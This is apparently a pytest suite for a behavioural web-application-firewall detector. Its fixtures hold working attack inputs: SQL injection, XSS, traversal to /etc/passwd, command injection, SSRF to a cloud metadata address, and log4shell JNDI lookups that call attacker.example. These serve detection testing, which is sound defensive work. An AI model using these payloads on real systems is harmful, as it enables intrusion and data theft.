"""waf-behavioral: the decoding and signatures on a table of cases, the score on hand-made
sessions (attacks high, look-alikes low), the bounded per-client windows, the pseudonyms, the
labeled session generator, the quality against the naive baseline, and the online path through
a real Redis (the registry's threshold and enabled flag, and what the reports carry)."""

from __future__ import annotations

import base64
import json
from typing import Any
from urllib.parse import quote, quote_plus

import numpy as np
import pytest
import redis
from scipy.stats import rankdata

from mlops_tasks.client import MonitoringClient
from mlops_tasks.detectors.waf import (
    WafBehavioralDetector,
    decode_value,
    session_features,
    signature_families,
    split_values,
)
from mlops_tasks.errors import ValidationError
from mlops_tasks.queues import EVENTS_QUEUE
from mlops_tasks.settings import Settings
from mlops_tasks.simulator import waf as sim

from .conftest import wait_for
from .test_registry import register_catalogue

MODEL = "waf-behavioral"
T0 = 1_800_000_000.0
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"
KEY = b"test-key"


def req(path: str, *, t: float = 0.0, status: int = 200, method: str = "GET", query: str = "",
        agent: str = BROWSER, client: str = "198.51.100.7") -> dict[str, Any]:
    return {"ts": T0 + t, "client": client, "method": method, "path": path, "query": query,
            "status": status, "user_agent": agent, "bytes": 1234}


def browsing(n: int = 20, *, client: str = "198.51.100.7", start: float = 0.0) -> list[dict]:
    """An honest visitor: product pages, a search, a cart, minutes apart."""
    pages = ["/", "/products/12", "/products/877", "/search", "/cart", "/blog/returns"]
    return [req(pages[i % len(pages)], t=start + 9.0 * i, client=client,
                query="q=rain+jacket" if pages[i % len(pages)] == "/search" else "")
            for i in range(n)]


@pytest.fixture
def detector() -> WafBehavioralDetector:
    return WafBehavioralDetector(pseudonym_key=KEY)


# ----------------------------------------------------------------------------- decoding

@pytest.mark.parametrize(("raw", "family"), [
    ("1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--", "sqli"),
    ("1%2527%2520UNION%2520SELECT%2520null--", "sqli"),            # double encoding
    ("1'/**/UnIoN/**/SeLeCt/**/1,2,3--", "sqli"),                  # comments for spaces, case
    ("1' /*!50000UNION*/ /*!50000SELECT*/ 1,2--", "sqli"),          # MySQL versioned comments
    ("admin'+or+'1'='1", "sqli"),
    ("1)) or sleep(5)#", "sqli"),
    ("%3Csvg%2Fonload%3Dalert(1)%3E", "xss"),
    ("&lt;img src=x onerror=alert(1)&gt;", "xss"),                  # HTML entities
    ("%%32%65%%32%65%%32%66%%32%65%%32%65%%32%66etc%%32%66passwd", "traversal"),  # %%32%65
    ("%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd", "traversal"),         # overlong
    ("..%5c..%5c..%5cwindows%5cwin.ini", "traversal"),
    ("127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", "cmdi"),
    ("x%7C%7Cwhoami", "cmdi"),
    ("http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", "ssrf"),
    ("http://2130706433/", "ssrf"),
    ("gopher://127.0.0.1:6379/_INFO", "ssrf"),
    ("${${lower:j}${::-n}di:ldap://attacker.example/a}", "log4shell"),
])
def test_decoded_payloads_match_their_family(raw: str, family: str) -> None:
    """Given a payload as attackers encode it, when decoded, then its family's signature fires
    (without the decoding, the encoded forms would not match)."""
    assert family in signature_families(decode_value(raw))


@pytest.mark.parametrize("text", [
    "select a plan", "union station parking", "drop shipping", "order by price",
    "delete my account", "O'Brien", "rock 'n' roll", "Tom & Jerry dvd", "100% cotton",
    "sleep mask", "cat toys", "ping pong table", "where to buy",
])
def test_benign_words_do_not_match(text: str) -> None:
    """Search terms full of SQL and shell words match no signature."""
    assert signature_families(decode_value(quote_plus(text))) == frozenset()


def test_values_are_split_before_decoding() -> None:
    """An encoded & stays inside its value: `q=a%26id` is one value, so `&id` is not read as a
    command after a separator, and a separator between fields is never one."""
    assert split_values("q=tom%26id&page=2") == [("q", "tom%26id"), ("page", "2")]
    assert split_values('{"q": 1}') == [("", '{"q": 1}')]
    facts = WafBehavioralDetector(pseudonym_key=KEY).facts(
        [req("/api/v1/orders", query="since=1767225600&id=3", agent="curl/8.8.0")])
    assert facts[0].families == frozenset()  # neither `&id` nor the `curl` user agent


# ----------------------------------------------------------------------------- the score

def test_a_scanner_session_scores_high(detector: WafBehavioralDetector) -> None:
    """Given 60 requests in 30 s for well-known files and guessed folders, mostly 404, when
    scored, then the score is near 1 and the probes, the 404s and the path spread all count."""
    probes = ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/backup.sql",
              "/server-status", "/actuator/env", "/config.php.bak"]
    guesses = [f"/{w}/" for w in ("admin", "old", "test", "dev", "tmp", "backup", "files")]
    session = [req((probes + guesses)[i % 15], t=0.5 * i, status=404, agent="curl/8.8.0")
               for i in range(60)]
    score = detector.score_session(session)
    assert score > 0.95
    features = detector.features(session)
    assert features.probe_requests == 32 and features.not_found_ratio == 1.0
    assert features.distinct_paths == 15


def test_an_injection_session_scores_high_and_one_forum_post_does_not(
        detector: WafBehavioralDetector) -> None:
    """Given a developer's visit with one forum post quoting SQL, then the score stays low;
    given eight distinct SQL injections against one parameter, then it is high."""
    question = "SELECT * FROM orders WHERE id = 1 OR 1=1 -- why does this return every row?"
    post = f"body={quote_plus(question)}"
    visit = [*browsing(15), req("/forum/posts", t=200, method="POST", query=post, status=302)]
    assert detector.features(visit).payload_requests == 1
    assert detector.score_session(visit) < 0.2
    payloads = ["1' OR '1'='1", "1 UNION SELECT null,null--", "1 AND SLEEP(5)", "1' --",
                "1;DROP TABLE users", "1 ORDER BY 10--", "@@version", "1' AND 1=1#"]
    attack = [req("/products", t=2.0 * i, query="id=" + quote(p), status=500 if i % 3 else 200)
              for i, p in enumerate(payloads)]
    assert detector.features(attack).payload_variants == 8
    assert detector.score_session(attack) > 0.95


def test_repeating_one_matching_value_is_not_fuzzing(detector: WafBehavioralDetector) -> None:
    """An API client polling with the same query that happens to match counts as one payload,
    not forty."""
    poll = [req("/api/v1/search", t=30.0 * i, query="q=" + quote("javascript: the good parts"))
            for i in range(40)]
    features = detector.features(poll)
    assert features.payload_requests == 40 and features.payload_variants == 1
    assert detector.score_session(poll) < 0.7


def test_credential_stuffing_scores_high_and_a_forgotten_password_does_not(
        detector: WafBehavioralDetector) -> None:
    """Given 30 failed logins with 30 usernames, then the score is high; given three failed
    logins with one username then a success, then it stays low."""
    stuffing = [req("/login", t=1.0 * i, method="POST", status=401,
                    query=f"username=user{i}%40mail.example&password=Summer2024%21")
                for i in range(30)]
    features = detector.features(stuffing)
    assert features.failed_logins == 30 and features.distinct_usernames == 30
    assert detector.score_session(stuffing) > 0.95
    forgot = [*browsing(5), *[req("/login", t=60 + 10 * i, method="POST", status=401,
                                   query="username=ann%40mail.example&password=x")
                              for i in range(3)],
              req("/login", t=300, method="POST", status=302,
                  query="username=ann%40mail.example&password=y")]
    assert detector.score_session(forgot) < 0.2


@pytest.mark.parametrize("name", ["health-check", "mobile-retry", "crawler", "spa"])
def test_noisy_honest_clients_score_low(detector: WafBehavioralDetector, name: str) -> None:
    """Look-alikes: one path every 10 s with a run of 503s; a mobile client retrying a sync on
    5xx; a crawler walking 80 pages with some 404s; an SPA bursting API calls with 404s."""
    sessions = {
        "health-check": [req("/healthz", t=10.0 * i, agent="kube-probe/1.30",
                             status=503 if 40 <= i < 50 else 200) for i in range(120)],
        "mobile-retry": [req("/api/v1/sync", t=2.0 ** i, method="POST",
                             status=503 if i < 7 else 200) for i in range(8)],
        "crawler": [req(f"/products/{i * 37}", t=3.0 * i, status=404 if i % 8 == 0 else 200,
                        agent="Mozilla/5.0 (compatible; Googlebot/2.1)") for i in range(80)],
        "spa": [req(f"/img/avatars/{i}.png" if i % 3 == 0 else "/api/v1/items/7", t=0.02 * i,
                    status=404 if i % 6 == 0 else 200) for i in range(60)],
    }
    assert detector.score_session(sessions[name]) < 0.3


def test_a_scanner_user_agent_alone_is_not_enough(detector: WafBehavioralDetector) -> None:
    """The user agent is a weak signal: an honest session under sqlmap's name stays low, and
    the same session scores higher than with a browser's."""
    honest = browsing(20)
    named = [dict(r, user_agent="sqlmap/1.8.6#stable (https://sqlmap.org)") for r in honest]
    assert detector.score_session(honest) < detector.score_session(named) < 0.2


def test_log4shell_in_the_user_agent_and_unusual_methods_count(
        detector: WafBehavioralDetector) -> None:
    jndi = "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}"
    assert detector.facts([req("/", agent=jndi)])[0].families == frozenset({"log4shell"})
    methods = [req("/", t=i, method=m) for i, m in enumerate(["TRACE", "PROPFIND", "DEBUG"])]
    assert detector.features(methods).unusual_methods == 3


def test_an_empty_session_scores_zero(detector: WafBehavioralDetector) -> None:
    assert detector.score_session([]) == 0.0
    assert session_features([]).requests == 0


def test_a_malformed_request_is_named_without_its_content(
        detector: WafBehavioralDetector) -> None:
    bad = {"client": "198.51.100.7", "path": "/x", "query": "secret-payload", "status": 200}
    with pytest.raises(ValidationError, match=r"requests\[1\]\.ts: expected a value") as raised:
        detector.score_session([req("/"), bad])
    assert "secret-payload" not in str(raised.value)
    with pytest.raises(ValidationError, match=r"requests\[0\]\.status: expected a number"):
        detector.score_session([dict(req("/"), status="200")])


# ----------------------------------------------------------------------------- windows

def test_the_stream_scores_each_clients_window() -> None:
    """Given interleaved clients, when each request is observed, then a client's score is the
    score of its own requests within the window, whatever the others do."""
    detector = WafBehavioralDetector(pseudonym_key=KEY, window_s=300)
    scan = [req(p, t=1.0 * i, status=404, client="203.0.113.9")
            for i, p in enumerate(["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/"] * 5)]
    honest = browsing(20, start=0.5)
    scores: dict[str, float] = {}
    for a, b in zip(scan, honest, strict=True):
        scores[a["client"]] = detector.observe(a)
        scores[b["client"]] = detector.observe(b)
    assert scores["203.0.113.9"] == pytest.approx(detector.score_session(scan))
    assert scores["198.51.100.7"] == pytest.approx(
        detector.score_session([r for r in honest if r["ts"] >= honest[-1]["ts"] - 300]))
    assert scores["203.0.113.9"] > 0.9
    assert scores["198.51.100.7"] < 0.1


def test_windows_forget_old_requests_and_idle_clients() -> None:
    """Given a 60 s window, when a client's probes are older than a minute, then they no
    longer count; a client idle for a minute is dropped; at most max_clients are kept (least
    recently seen evicted first) and at most max_requests_per_client each."""
    detector = WafBehavioralDetector(pseudonym_key=KEY, window_s=60, max_clients=3,
                                     max_requests_per_client=10)
    for i in range(5):
        detector.observe(req("/.env", t=i, status=404, client="a"))
    assert detector.observe(req("/", t=100, client="a")) < 0.05  # the probes left the window
    for i, client in enumerate(["b", "c", "d"]):
        detector.observe(req("/", t=101 + i, client=client))
    assert "a" not in detector.windows and len(detector.windows) == 3  # evicted: least recent
    detector.observe(req("/", t=200, client="e"))
    assert list(detector.windows._windows) == ["e"]  # b, c, d idle for more than 60 s
    for i in range(25):
        window = detector.windows.add("e", detector.facts([req("/", t=201 + i)])[0])
    assert len(window) == 10


# ----------------------------------------------------------------------------- pseudonyms

def test_pseudonyms_are_keyed_hashes(monkeypatch: pytest.MonkeyPatch) -> None:
    """The same key gives the same pseudonym, another key another one; MLOPS_PSEUDONYM_KEY is
    the default key; without it a random key is drawn once per process."""
    a = WafBehavioralDetector(pseudonym_key=b"k1").pseudonym("198.51.100.7")
    assert a == WafBehavioralDetector(pseudonym_key=b"k1").pseudonym("198.51.100.7")
    assert a != WafBehavioralDetector(pseudonym_key=b"k2").pseudonym("198.51.100.7")
    assert len(a) == 16 and "198" not in a
    with pytest.raises(ValidationError, match="pseudonym_key"):
        WafBehavioralDetector(pseudonym_key=b"")
    random_key = WafBehavioralDetector().pseudonym("198.51.100.7")
    assert random_key == WafBehavioralDetector().pseudonym("198.51.100.7")
    assert random_key != a
    monkeypatch.setenv("MLOPS_PSEUDONYM_KEY", "k1")
    assert WafBehavioralDetector().pseudonym("198.51.100.7") == a
    settings = Settings.from_env({"MLOPS_PSEUDONYM_KEY": "k2"})
    assert WafBehavioralDetector(settings=settings).pseudonym("198.51.100.7") == \
        WafBehavioralDetector(pseudonym_key=b"k2").pseudonym("198.51.100.7")


# ----------------------------------------------------------------------------- generator

def test_the_generator_is_deterministic_and_well_formed() -> None:
    """Same seed, same sessions; every request has the documented fields in time order; both
    labels and the look-alikes are present; an unknown drift is refused with the known ones."""
    first = sim.generate(np.random.default_rng(3), 200)
    again = sim.generate(np.random.default_rng(3), 200)
    assert first == again
    assert first != sim.generate(np.random.default_rng(4), 200)
    fields = {"ts", "client", "method", "path", "query", "status", "user_agent", "bytes"}
    for item in first:
        assert item.input and all(set(r) == fields for r in item.input)
        stamps = [r["ts"] for r in item.input]
        assert stamps == sorted(stamps)
        assert len({r["client"] for r in item.input}) == 1
    assert {x.label for x in first} == {True, False}
    assert any(x.kind.startswith("lookalike:") and not x.label for x in first)
    with pytest.raises(ValueError, match="new-attack-style, lookalike-surge, throttled-attacks"):
        sim.generate(np.random.default_rng(0), 1, drift="sideways")


def test_each_drift_brings_its_new_kinds() -> None:
    for drift, new in (("new-attack-style", {"obfuscated-injection", "low-and-slow-stuffing",
                                             "stealth-scanner"}),
                       ("lookalike-surge", {"lookalike:security-course-forum",
                                            "lookalike:link-checker"}),
                       ("throttled-attacks", {"throttled-injection", "throttled-scanner"})):
        assert new <= {k.name for k in sim.mix(drift)}
        kinds = {x.kind for x in sim.generate(np.random.default_rng(1), 300, drift=drift)}
        assert new <= kinds


def test_throttled_attacks_hide_under_the_threshold_and_a_lower_one_finds_them() -> None:
    """The demo's drift: recall at the default threshold collapses, and a threshold at the
    bottom of the tuning range (0.5) wins most of it back with few false alarms."""
    detector = WafBehavioralDetector()
    items = sim.generate(np.random.default_rng(5), 900, drift="throttled-attacks")
    scores = np.array([detector.score_session(x.input) for x in items])
    truth = np.array([x.label for x in items])
    recall = {t: float((scores[truth] >= t).mean()) for t in (0.5, 0.7)}
    accuracy = {t: float(((scores >= t) == truth).mean()) for t in (0.5, 0.7)}
    assert recall[0.7] < 0.5 < recall[0.5]
    assert accuracy[0.5] > accuracy[0.7] + 0.05
    assert float((scores[~truth] >= 0.5).mean()) < 0.05


def test_the_vendored_corpus_is_used_and_attributed() -> None:
    """Attack sessions carry payloads of the vendored PayloadsAllTheThings subset, whose
    licence and source commit ship beside it."""
    from importlib import resources

    data = resources.files("mlops_tasks.simulator").joinpath("data")
    assert "MIT License" in data.joinpath("waf_LICENSE-PayloadsAllTheThings.txt").read_text()
    assert "f9fa51417886ac11476cb62db2dff21773dc570b" in data.joinpath(
        "waf_SOURCES.md").read_text()
    for name in ("sqli", "xss", "traversal", "cmdi", "ssrf", "log4shell", "scanner_paths"):
        assert len(sim.corpus(name)) >= 10
    rng = np.random.default_rng(5)
    session = sim._injection(rng, T0, "sqli")
    decoded = " ".join(decode_value(r["query"]) for r in session)
    assert any(decode_value(p) in decoded for p in sim.corpus("sqli"))


def test_hidden_payloads_use_encodings_the_detector_does_not_decode() -> None:
    """The drift's encodings (IIS %u, base64, JSON escapes) hide a payload that plain URL
    encoding does not."""
    payload = "' UNION SELECT password FROM users--"
    assert "sqli" in signature_families(decode_value(quote(payload)))
    rng = np.random.default_rng(0)
    hidden = {sim.hidden_payload(rng, payload) for _ in range(30)}
    assert all(signature_families(decode_value(h)) == frozenset() for h in hidden)
    assert {h[:6] for h in hidden} == {"%u0027", quote(base64.b64encode(payload.encode()))[:6],
                                       "%7B%22"}


# ----------------------------------------------------------------------------- quality

def _auc(labels: np.ndarray, scores: np.ndarray) -> float:
    ranks = rankdata(scores)
    pos = int(labels.sum())
    neg = len(labels) - pos
    return float((ranks[labels].sum() - pos * (pos + 1) / 2) / (pos * neg))


def _f1(labels: np.ndarray, flagged: np.ndarray) -> float:
    tp = int((labels & flagged).sum())
    return 2 * tp / (2 * tp + int((~labels & flagged).sum()) + int((labels & ~flagged).sum()))


def test_the_detector_beats_the_naive_baseline_and_drift_hurts_it(
        detector: WafBehavioralDetector) -> None:
    """On 600 generated sessions (seed 11), the detector at its default threshold beats the
    naive baseline (error rate plus keywords, flag at 0.5) clearly on F1 and on ROC AUC, and
    flags no honest look-alike more often than 1 in 20; under the new attack style its recall
    really drops."""
    data = sim.generate(np.random.default_rng(11), 600)
    labels = np.array([x.label for x in data])
    scores = np.array([detector.score_session(x.input) for x in data])
    naive = np.array([sim.naive_score(x.input) for x in data])
    threshold = detector.decision_threshold
    assert threshold == 0.7
    assert _f1(labels, scores >= threshold) > _f1(labels, naive >= 0.5) + 0.1
    assert _auc(labels, scores) > _auc(labels, naive) + 0.02
    lookalikes = np.array([x.kind.startswith("lookalike:") for x in data])
    assert (scores[lookalikes] >= threshold).mean() < 0.05
    recall = (scores[labels] >= threshold).mean()
    drifted = sim.generate(np.random.default_rng(11), 600, drift="new-attack-style")
    caught = [detector.score_session(x.input) >= threshold for x in drifted if x.label]
    assert np.mean(caught) < recall - 0.25


# ----------------------------------------------------------------------------- online

def _queued_metadata(broker: redis.Redis) -> list[dict[str, Any]]:
    """The metadata of every prediction waiting in the ingest queue (kombu keeps each message
    as JSON with a base64 body holding [args, kwargs, embed])."""
    out = []
    for message in broker.lrange(EVENTS_QUEUE, 0, -1):
        args, _kwargs, _embed = json.loads(base64.b64decode(json.loads(message)["body"]))
        out.extend(m if isinstance(m, dict) else json.loads(m)
                   for m in args[0].get("metadata") or [] if m is not None)
    return out


@pytest.fixture
def online(registry, redis_url):
    """A client reading the test's registry, sending to a database of its own that no worker
    consumes (so the reports can be read back), with a 0.2 s configuration cache."""
    register_catalogue(registry)
    broker_url = redis_url.rsplit("/", 1)[0] + "/9"
    broker = redis.Redis.from_url(broker_url)
    broker.flushdb()
    client = MonitoringClient(broker_url, redis_url=redis_url, flush_interval_ms=20,
                              config_ttl_s=0.2)
    yield client, broker
    client.close(timeout=1)
    broker.flushdb()


def test_a_new_registry_threshold_changes_the_decisions(registry, online) -> None:
    """Given a session scoring between 0.5 and 0.7, when the registry's decision_threshold
    goes from 0.7 to 0.5 (as auto-tuning would), then within the client's cache TTL the same
    session is flagged, and every decision is reported with its score."""
    client, broker = online
    detector = WafBehavioralDetector(client=client, pseudonym_key=KEY)
    session = [*browsing(10), *[req(p, t=100 + i, status=404) for i, p in
                                enumerate(["/.env", "/.git/config"])]]
    before = detector.detect_session(session, actual=True)
    assert 0.5 < before.score < 0.7 and before.threshold == 0.7 and not before.decision
    registry.set_config(MODEL, actor="auto-tuner", changes=[("decision_threshold", 0.5)])
    after = wait_for(lambda: (d := detector.detect_session(session)).decision and d,
                     timeout=5, what="the new threshold in force")
    assert after.threshold == 0.5 and after.score == before.score
    assert after.prediction_id is not None
    assert client.flush(10)
    assert len(_queued_metadata(broker)) == client.stats()["recorded"] >= 2


def test_a_disabled_model_neither_scores_nor_reports(registry, online) -> None:
    """Given the model disabled in the registry, when requests and sessions arrive, then the
    detector returns the disabled detection, records nothing and keeps no window; enabled
    again, it scores and reports."""
    client, _broker = online
    detector = WafBehavioralDetector(client=client, pseudonym_key=KEY)
    assert detector.detect_request(req("/.env", status=404)).enabled
    registry.set_config(MODEL, actor="ops", changes=[("enabled", False)])
    wait_for(lambda: not detector.enabled, timeout=5, what="the model disabled")
    recorded = client.stats()["recorded"]
    off = [detector.detect_session(browsing(3)),
           detector.detect_request(req("/.git/config", status=404, client="203.0.113.5"))]
    assert all(not d.enabled and d.score == 0.0 and d.prediction_id is None for d in off)
    assert client.stats()["recorded"] == recorded
    assert "203.0.113.5" not in detector.windows
    registry.set_config(MODEL, actor="ops", changes=[("enabled", True)])
    on = wait_for(lambda: (d := detector.detect_request(req("/", client="203.0.113.5")))
                  .enabled and d, timeout=5, what="the model enabled")
    assert on.prediction_id is not None and client.stats()["recorded"] > recorded


def test_reports_carry_the_pseudonym_and_features_only(online) -> None:
    """Given an injection session and a streamed request, when reported, then each event's
    metadata holds the client's pseudonym and numbers, never its address, a path with its
    query or a payload."""
    client, broker = online
    detector = WafBehavioralDetector(client=client, pseudonym_key=KEY)
    ip = "203.0.113.77"
    payload = "1' UNION SELECT password FROM users--"
    attack = [req("/products", t=i, client=ip, query=f"id={quote(payload)}{i}")
              for i in range(5)]
    assert detector.detect_session(attack).decision
    detector.detect_request(req("/download", client=ip, query="file=../../../etc/passwd"))
    assert client.flush(10)
    reported = _queued_metadata(broker)
    assert len(reported) == 2
    for metadata in reported:
        text = json.dumps(metadata).lower()
        assert metadata["client"] == detector.pseudonym(ip)
        for secret in (ip, "union", "password", "passwd", "/products", "/download", "?"):
            assert secret not in text
    assert reported[0]["payload_families"] == ["sqli"] and reported[0]["requests"] == 5
    assert reported[1]["payload_families"] == ["traversal"]
